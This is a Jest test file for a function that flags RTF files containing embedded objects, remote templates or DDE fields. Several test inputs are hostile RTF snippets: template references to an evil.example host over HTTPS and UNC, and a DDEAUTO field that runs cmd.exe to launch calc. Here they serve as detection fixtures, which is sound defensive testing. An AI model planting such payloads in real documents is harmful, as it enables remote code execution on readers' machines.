import { describe, expect, it } from '@jest/globals';
import { typeOfRichText } from '../../../../../functions/domain/file-type/office/rich-text.ts';
import { startProcessorTime } from '../../../../support/processor-time.ts';

const typeOf = (text: string) => {
  const bytes = Buffer.from(text, 'latin1');
  return typeOfRichText([{ start: 0, bytes }], bytes.length);
};
const PLAIN = 'application/rtf';
const OBJECT = 'application/x-rtf-object';

describe('RTF', () => {
  it.each([
    'Hello, objects and \\templates of words',
    "{\\fonttbl{\\f0 Arial;}}\\pard M\\'fcller\\par",
    // Escaped: text about RTF.
    'the word \\\\object begins one, \\\\\\\\objdata its data',
    '{\\field{\\*\\fldinst HYPERLINK "https://example.com"}{\\fldrslt x}}',
    '{\\field{\\*\\fldinst PAGE}} of the ADDED pages',
    'DDE is a protocol',
    '{\\pict\\pngblip 89504e47}',
    '\\templatefile',
    '{\\*\\template }',
    '{\\*\\template C:\\\\Program Files\\\\Normal.dot}',
  ])('without objects: %j', (body) => expect(typeOf(`{\\rtf1\\ansi ${body}}`)).toBe(PLAIN));

  it.each([
    '{\\object\\objocx}',
    '{\\object \\objemb{\\*\\objdata 0105}}',
    '{\\*\\objdata 0105}',
    '\\objupdate',
    '\\OBJDATA',
    '{\\object\\objlink\\objupdate}',
    '{\\*\\template https://evil.example/a.dotm}',
    '{\\*\\template \\\\\\\\evil.example\\\\a.dotm}',
    "{\\*\\template C:\\'2e}",
    '{\\*\\template {C:}}',
    'text \\\\\\object text',
    '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}',
    '{\\field{\\*\\fldinst {DDE} x}}',
  ])('with objects: %j', (body) => expect(typeOf(`{\\rtf1\\ansi ${body}}`)).toBe(OBJECT));

  it('counts as with objects where it is not read whole', () => {
    const bytes = Buffer.from('{\\rtf1 a}');
    expect(typeOfRichText([], 9)).toBe(OBJECT);
    expect(typeOfRichText([{ start: 0, bytes }], 10)).toBe(OBJECT);
    expect(typeOfRichText([{ start: 1, bytes }], 9)).toBe(OBJECT);
    expect(
      typeOfRichText(
        [
          { start: 0, bytes },
          { start: 9, bytes },
        ],
        9,
      ),
    ).toBe(OBJECT);
  });

  it('is searched in time that grows with its length only', () => {
    const used = startProcessorTime();
    expect(typeOf(`{\\rtf1 ${'\\'.repeat(2_000_000)}`)).toBe(PLAIN);
    expect(used()).toBeLessThan(2000);
  });
});
